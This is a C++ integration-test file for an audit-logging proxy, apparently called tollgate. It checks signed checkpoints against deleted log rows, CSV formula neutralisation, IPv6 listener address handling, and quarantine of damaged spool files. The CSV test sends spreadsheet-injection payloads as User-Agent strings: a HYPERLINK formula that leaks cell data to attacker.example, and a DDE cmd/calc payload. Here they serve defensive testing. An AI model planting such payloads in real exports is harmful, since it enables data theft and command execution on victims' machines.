// The audit trail against someone who would fool it (issue 16): the real binary,
// the fixture PostgreSQL and slapd, curl. Checkpoints that are on without being
// asked for, CSV cells a spreadsheet would run, IPv4 clients of a listener on
// [::], and a spool file damaged in the middle.
#include "tollgate/testing/services_environment.hpp"

#include "tollgate/testing/postgres_server.hpp"
#include "tollgate/testing/static_origin.hpp"
#include "tollgate/testing/tollgate_process.hpp"

#include <boost/json.hpp>
#include <gtest/gtest.h>

#include <sys/stat.h>

#include <filesystem>
#include <fstream>
#include <thread>

namespace tollgate::testing {
namespace {

namespace fs = std::filesystem;
using namespace std::chrono_literals;

bool eventually(const std::function<bool()>& cond, std::chrono::milliseconds timeout = 30s) {
  const auto deadline = std::chrono::steady_clock::now() + timeout;
  while (std::chrono::steady_clock::now() < deadline) {
    if (cond()) return true;
    std::this_thread::sleep_for(50ms);
  }
  return cond();
}

class AuditIntegrity : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (!services_environment::available()) return;
    origin_ = std::make_unique<static_origin>(std::map<std::string, std::string>{{"index.html", "hello\n"}});
  }
  static void TearDownTestSuite() { origin_.reset(); }
  void SetUp() override { TOLLGATE_REQUIRE_SERVICES(); }

  static tollgate_settings settings(const std::string& instance) {
    tollgate_settings s;
    s.instance = instance;
    s.bootstrap_rules_yaml =
        "- priority: 10\n"
        "  action: allow\n"
        "  groups: [engineering-all]\n"
        "  hosts: [\"127.0.0.1/32\"]\n"
        "  ports: [" + std::to_string(origin_->port()) + "]\n";
    return s;
  }
  static std::string get_through(const tollgate_process& p, const std::vector<std::string>& extra = {}) {
    std::vector<std::string> args{"-x", p.proxy_url(), "-U", "alice:alice-pw", "-o", "/dev/null", "-w", "%{http_code}"};
    args.insert(args.end(), extra.begin(), extra.end());
    args.push_back(origin_->url("/index.html"));
    return curl(args).out;
  }
  static std::string sql(const std::string& query) {
    auto out = services_environment::postgres().psql(query);
    while (!out.empty() && (out.back() == '\n' || out.back() == ' ')) out.pop_back();
    return out;
  }
  static long long rows_of(const std::string& instance) {
    return std::stoll(sql("SELECT count(*) FROM audit_log WHERE instance = '" + instance + "'"));
  }
  static command_result admin(const tollgate_process& p, const std::string& path) {
    return curl({"-u", "dave:dave-pw", p.admin_url() + path});
  }

  static inline std::unique_ptr<static_origin> origin_;
};

TEST_F(AuditIntegrity, CheckpointsAreOnByDefaultSoACutAtTheEndIsFound) {
  auto s = settings("integrity-cp");
  s.default_checkpoints = true;
  s.audit_extra = "  checkpoint_every: 5\n";
  auto proxy = tollgate_process::start(services_environment::postgres(), services_environment::ldap(), s);
  const auto key = proxy->dir().file("audit-ed25519.pem");
  const auto checkpoints = proxy->dir().file("checkpoints.log");

  struct stat st {};
  ASSERT_EQ(::stat(key.c_str(), &st), 0) << proxy->log_text();
  EXPECT_EQ(st.st_mode & 0777, 0600u);  // the key is the owner's alone
  const auto key_text = read_file(key);
  const auto check = run_command({tollgate_binary(), "check-config", "--config", proxy->config_file()});
  EXPECT_EQ(check.exit_code, 0) << check.err;
  EXPECT_NE(check.out.find("audit checkpoints: signed with " + key + ", written to " + checkpoints), std::string::npos)
      << check.out;

  for (int i = 0; i < 12; ++i) ASSERT_EQ(get_through(*proxy), "200");
  ASSERT_TRUE(eventually([&] { return rows_of("integrity-cp") == 12; })) << rows_of("integrity-cp");
  proxy->stop();
  proxy->restart();  // a second serve keeps the key it made
  EXPECT_EQ(read_file(key), key_text);
  proxy->stop();
  ASSERT_NE(read_file(checkpoints).find("\"seq\":12"), std::string::npos) << read_file(checkpoints);

  auto verify = run_command({tollgate_binary(), "audit", "verify", "--config", proxy->config_file()});
  EXPECT_EQ(verify.exit_code, 0) << verify.out << verify.err;
  // The database owner cuts the newest rows: only the checkpoint knows they existed.
  sql("DELETE FROM audit_log WHERE instance = 'integrity-cp' AND seq > 9");
  verify = run_command({tollgate_binary(), "audit", "verify", "--config", proxy->config_file()});
  EXPECT_EQ(verify.exit_code, 1) << verify.out << verify.err;
  EXPECT_NE(verify.out.find("BROKEN instance=integrity-cp seq=10: chain ends at seq 9"), std::string::npos) << verify.out;
  sql("DELETE FROM audit_log WHERE instance = 'integrity-cp'");  // other tests verify every chain
}

TEST_F(AuditIntegrity, CsvExportNeutralisesCellsASpreadsheetWouldRun) {
  auto proxy = tollgate_process::start(services_environment::postgres(), services_environment::ldap(),
                                       settings("integrity-csv"));
  const std::string agent = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click\")";
  ASSERT_EQ(get_through(*proxy, {"-A", agent}), "200") << proxy->log_text();
  ASSERT_EQ(get_through(*proxy, {"-A", "@SUM(1+1)*cmd|' /C calc'!A0"}), "200");
  ASSERT_TRUE(eventually([&] { return rows_of("integrity-csv") == 2; }));

  const auto csv = admin(*proxy, "/api/v1/audit/export?format=csv&user=alice");
  ASSERT_EQ(csv.exit_code, 0) << csv.err;
  // A leading quote inside a quoted cell: shown as text, never evaluated.
  EXPECT_NE(csv.out.find(",\"'=HYPERLINK(\"\"http://attacker.example/?leak=\"\"&A1,\"\"Click\"\")\","),
            std::string::npos)
      << csv.out;
  EXPECT_NE(csv.out.find(",\"'@SUM(1+1)*cmd|' /C calc'!A0\","), std::string::npos) << csv.out;
  EXPECT_EQ(csv.out.find(",=HYPERLINK"), std::string::npos) << csv.out;
  EXPECT_EQ(csv.out.find(",\"=HYPERLINK"), std::string::npos) << csv.out;
  // NDJSON keeps the value as it was: JSON consumers do not evaluate cells.
  const auto ndjson = admin(*proxy, "/api/v1/audit/export?format=ndjson&user=alice");
  EXPECT_NE(ndjson.out.find("\"user_agent\":\"=HYPERLINK("), std::string::npos) << ndjson.out;
}

TEST_F(AuditIntegrity, IPv4ClientsOfAListenerOnAllIPv6AddressesAreFoundByTheirNetwork) {
  auto s = settings("integrity-v6");
  s.proxy_listen_host = "[::]";
  auto proxy = tollgate_process::start(services_environment::postgres(), services_environment::ldap(), s);
  ASSERT_EQ(get_through(*proxy), "200");  // curl reaches it over IPv4: 127.0.0.1, seen as ::ffff:127.0.0.1
  ASSERT_TRUE(eventually([&] { return rows_of("integrity-v6") == 1; }));
  EXPECT_EQ(sql("SELECT client_ip FROM audit_log WHERE instance = 'integrity-v6'"), "127.0.0.1");

  const auto found = admin(*proxy, "/api/v1/audit?client_ip=127.0.0.0/24&user=alice&limit=100");
  ASSERT_EQ(found.exit_code, 0) << found.err;
  bool ours = false;
  const auto body = boost::json::parse(found.out);
  for (const auto& item : body.at("items").as_array())
    if (item.at("instance").as_string() == "integrity-v6") ours = item.at("client_ip").as_string() == "127.0.0.1";
  EXPECT_TRUE(ours) << found.out;
}

// Where each frame of a spool file starts (u32 big-endian payload length, u32 CRC, payload).
std::vector<std::uint64_t> frame_offsets(const std::string& file) {
  const auto bytes = read_file(file);
  std::vector<std::uint64_t> out;
  for (std::uint64_t at = 0; at + 8 <= bytes.size();) {
    out.push_back(at);
    const auto* p = reinterpret_cast<const unsigned char*>(bytes.data() + at);
    at += 8 + (std::uint64_t{p[0]} << 24 | std::uint64_t{p[1]} << 16 | std::uint64_t{p[2]} << 8 | p[3]);
  }
  return out;
}

// Last: it stops the fixture PostgreSQL for a while.
TEST_F(AuditIntegrity, ASpoolFileDamagedInTheMiddleIsQuarantinedAndItsGoodRecordsStillArrive) {
  auto proxy = tollgate_process::start(services_environment::postgres(), services_environment::ldap(),
                                       settings("integrity-spool"));
  auto& pg = services_environment::postgres();
  pg.stop();
  struct restart_pg {
    postgres_server& pg;
    ~restart_pg() {
      if (!pg.running()) pg.start();
    }
  } guard{pg};
  for (int i = 0; i < 9; ++i) ASSERT_EQ(get_through(*proxy), "200");
  proxy->stop();  // drains into the spool

  std::vector<fs::path> files;
  for (const auto& e : fs::directory_iterator(proxy->dir().file("spool")))
    if (e.path().extension() == ".spool") files.push_back(e.path());
  ASSERT_EQ(files.size(), 1u);
  const auto frames = frame_offsets(files[0]);
  ASSERT_EQ(frames.size(), 9u);
  const auto original = fs::file_size(files[0]);
  {
    std::fstream f(files[0], std::ios::binary | std::ios::in | std::ios::out);
    f.seekp(static_cast<std::streamoff>(frames[4] + 40));  // inside the fifth record
    f.put('\x7f');
  }

  pg.start();
  proxy->restart();
  ASSERT_TRUE(eventually([&] { return rows_of("integrity-spool") == 8; })) << rows_of("integrity-spool");
  EXPECT_EQ(sql("SELECT string_agg(seq::text, ',' ORDER BY seq) FROM audit_log WHERE instance = 'integrity-spool'"),
            "1,2,3,4,6,7,8,9");
  const auto aside = files[0].string() + ".quarantined";
  ASSERT_TRUE(fs::exists(aside));
  EXPECT_EQ(fs::file_size(aside), original);
  EXPECT_EQ(proxy->metric("tollgate_audit_spool_quarantined_files"), 1);
  const auto ready = curl({proxy->admin_url() + "/readyz"});
  EXPECT_NE(ready.out.find("\"audit\":\"degraded\""), std::string::npos) << ready.out;
  EXPECT_NE(proxy->log_text().find("quarantined as " + aside), std::string::npos) << proxy->log_text();
  // The lost record is a gap audit verify names, not a silent hole.
  const auto verify = run_command({tollgate_binary(), "audit", "verify", "--config", proxy->config_file()});
  EXPECT_EQ(verify.exit_code, 1) << verify.out;
  EXPECT_NE(verify.out.find("BROKEN instance=integrity-spool seq=5: row missing"), std::string::npos) << verify.out;
  proxy->stop();
  sql("DELETE FROM audit_log WHERE instance = 'integrity-spool'");
}

}  // namespace
}  // namespace tollgate::testing
